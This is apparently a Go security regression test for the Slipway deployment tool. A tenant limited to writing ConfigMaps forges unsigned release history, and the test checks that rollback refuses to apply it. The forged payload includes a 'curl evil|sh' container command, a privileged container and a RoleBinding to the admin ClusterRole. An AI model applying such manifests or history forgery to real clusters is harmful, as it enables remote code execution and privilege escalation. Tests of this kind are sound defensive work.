//go:build linux

package attack

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/slipway-cd/slipway/internal/adapter/kubernetes/fakeapi"
	"github.com/slipway-cd/slipway/internal/adapter/kubernetes/history"
	"github.com/slipway-cd/slipway/internal/delivery"
	"github.com/slipway-cd/slipway/internal/port"
	"github.com/slipway-cd/slipway/internal/release"
)

// tenantCluster is an API server that notes what Slipway's credentials apply.
type tenantCluster struct {
	*fakeapi.Server
	url string

	mu      sync.Mutex
	applied []string // "Deployment/api privileged"
}

func newTenantCluster(t *testing.T) *tenantCluster {
	c := &tenantCluster{Server: fakeapi.New(t)}
	server := httptest.NewServer(c)
	t.Cleanup(server.Close)
	c.url = server.URL
	return c
}

// ServeHTTP responds as an API server does; a dry run changes nothing.
func (c *tenantCluster) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	if req.Method == http.MethodPatch {
		raw, err := io.ReadAll(req.Body)
		if err != nil {
			return
		}
		if req.URL.Query().Get("dryRun") != "" {
			_, _ = w.Write(raw)
			return
		}
		c.note(raw)
		req.Body = io.NopCloser(strings.NewReader(string(raw)))
	}
	code, content := c.Respond(req)
	w.WriteHeader(code)
	_ = json.NewEncoder(w).Encode(content)
}

func (c *tenantCluster) note(raw []byte) {
	var o unstructured.Unstructured
	if err := o.UnmarshalJSON(raw); err != nil {
		return
	}
	text := o.GetKind() + "/" + o.GetName()
	if strings.Contains(string(raw), `"privileged":true`) {
		text += " privileged"
	}
	c.mu.Lock()
	c.applied = append(c.applied, text)
	c.mu.Unlock()
}

// forged are those of the tenant's objects that were applied.
func (c *tenantCluster) forged() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.DeleteFunc(slices.Clone(c.applied), func(text string) bool {
		return !strings.HasSuffix(text, " privileged") && !strings.HasPrefix(text, "RoleBinding/")
	})
}

// forgedRelease is complete, and has the name of its content, as anybody can compute it.
func forgedRelease(t *testing.T, objects string) delivery.ReleaseRecord {
	t.Helper()
	rel := delivery.Release{
		Schema: delivery.ReleaseForm, Service: "tiny", Image: delivery.Image{Repository: "registry.example.com/tiny", Digest: delivery.DigestOf([]byte(objects))},
		Workload: delivery.Workload{Replicas: 1, Health: "/health"}, Objects: objects, Manifests: delivery.DigestOf([]byte(objects)),
	}
	_, digest, id, err := release.Canonical(rel)
	if err != nil {
		t.Fatal(err)
	}
	commit := strings.Repeat("a", 40)
	return delivery.ReleaseRecord{
		ID: id, Digest: digest, Release: rel, Run: "20260301-010000-aaaa", CreatedAt: time.Date(2026, 3, 1, 1, 0, 0, 0, time.UTC),
		Origin: delivery.Origin{Run: "20260301-010000-aaaa", Commit: commit, Tree: commit},
	}
}

const forgedObjects = `[
{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"me"},
 "roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"admin"},"subjects":[{"kind":"User","name":"tenant"}]},
{"apiVersion":"v1","kind":"Service","metadata":{"name":"tiny"},"spec":{"selector":{"app":"tiny"},"ports":[{"port":80}]}},
{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"tiny"},"spec":{"replicas":1,"selector":{"matchLabels":{"app":"tiny"}},
 "template":{"metadata":{"labels":{"app":"tiny"}},"spec":{"containers":[{"name":"tiny","image":"IMAGE","command":["sh","-c","curl evil|sh"],"securityContext":{"privileged":true}}]}}}}]`

// forge writes three ConfigMaps, as a tenant may who has no other right: a history of a
// release that serves, one that was good before, and an approved model. Nothing is signed.
func (c *tenantCluster) forge(t *testing.T) {
	t.Helper()
	image := "registry.example.com/tiny@" + string(delivery.DigestOf([]byte("evil")))
	serves := forgedRelease(t, strings.ReplaceAll(forgedObjects, "IMAGE", image))
	good := forgedRelease(t, strings.ReplaceAll(forgedObjects, `"IMAGE"`, `"`+image+`" `))
	at := func(hour int) time.Time { return time.Date(2026, 3, 1, hour, 0, 0, 0, time.UTC) }
	h := port.History{
		Service: "tiny", Environment: "prod", Releases: []delivery.ReleaseRecord{serves, good},
		Deployments: []delivery.Deployment{
			{ID: 2, Environment: "prod", Release: serves.ID, Run: "20260301-030000-cccc", State: delivery.Serving, By: "alice", StartedAt: at(3), ServingAt: at(3)},
			{ID: 1, Environment: "prod", Release: good.ID, Run: "20260301-010000-aaaa", State: delivery.Replaced, By: "alice", StartedAt: at(1), ServingAt: at(1), EndedAt: at(3)},
		},
		Models: []delivery.ModelVersion{{
			ModelRef: delivery.ModelRef{Group: "g", Version: 7, Digest: delivery.DigestOf([]byte("model"))}, Status: delivery.Approved,
			Metrics: delivery.Metrics{"accuracy": 0.99}, DecidedBy: "alice", DecidedAt: at(1), CreatedAt: at(1), Why: "looked good",
		}},
	}
	if err := history.Save(t.Context(), c.Client(), &history.Keyring{Service: "tiny", Environment: "prod"}, h); err != nil {
		t.Fatal(err)
	}
	c.Remove("/api/v1/namespaces/ns/secrets/slipway-tiny-prod.history") // it was not the tenant's to make
	c.Edit("/api/v1/namespaces/ns/configmaps/slipway-tiny-prod", func(o *unstructured.Unstructured) {
		text, _, _ := unstructured.NestedString(o.Object, "data", "history.json")
		before, _, _ := strings.Cut(text, `,"seals":`)
		_ = unstructured.SetNestedField(o.Object, before+"}", "data", "history.json")
	})
}

// useCluster lets prod be a namespace of the cluster.
func (l *lab) useCluster(url string) {
	l.t.Helper()
	path := filepath.Join(l.base, "kubeconfig")
	l.must(os.WriteFile(path, []byte(`{"apiVersion":"v1","kind":"Config","current-context":"x","contexts":[{"name":"x","context":{"cluster":"c","user":"u"}}],
"clusters":[{"name":"c","cluster":{"server":"`+url+`"}}],"users":[{"name":"u","user":{}}]}`), 0o600))
	file := l.read(filepath.Join(l.repo, "slipway.yaml"))
	before, _, ok := strings.Cut(file, "  prod:")
	if !ok {
		l.t.Fatal("slipway.yaml has no prod")
	}
	l.write("slipway.yaml", strings.Replace(before, "repository: ", "repository: registry.example.com/", 1)+
		"  prod: {target: {kubernetes: {kubeconfig: "+path+", namespace: ns}}, approvals: 1}\n")
	l.commit("a cluster")
}

// Test3: a tenant of the namespace who may write ConfigMaps, and nothing else, chose what
// `slipway rollback` applied with Slipway's rights, and approved a model as somebody else.
func Test3(t *testing.T) {
	l, cluster := newLab(t), newTenantCluster(t)
	cluster.forge(t)
	l.useCluster(cluster.url)
	l.slipway("status", "--env", "prod")
	if models := l.slipway("models").stdout; strings.Contains(models, "Approved") {
		t.Errorf("a model that nobody approved here:\n%s", models)
	}
	rollback := l.start(os.Getenv(programEnv), "rollback", "--env", "prod", "--why", "errors")
	ended := make(chan error, 1)
	go func() { ended <- rollback.Wait() }()
	for end := time.After(20 * time.Second); ; {
		if forged := cluster.forged(); len(forged) > 1 {
			t.Fatalf("rollback applied %q", forged)
		}
		select {
		case <-ended:
		case <-time.After(50 * time.Millisecond):
			continue
		case <-end:
			t.Error("the rollback did not end")
		}
		break
	}
	if forged := cluster.forged(); len(forged) > 0 {
		t.Errorf("rollback applied %q", forged)
	}
	l.slipway("rollback", "--env", "prod", "--why", "errors").wantExit(1).
		wantText("pending", "no trusted key has signed", "slipway history accept --env prod")
	l.slipway("history", "show", "--env", "prod").wantExit(0).wantText("pending", "RoleBinding/me", "Deployment/tiny", "g:7")
	l.with("GITHUB_ACTIONS=true", "GITHUB_EVENT_NAME=pull_request", "GITHUB_BASE_REF=main", "GITHUB_REF_NAME=7/merge").
		slipway("history", "accept", "--env", "prod").wantExit(1).wantText("a pull request can't do that")
}
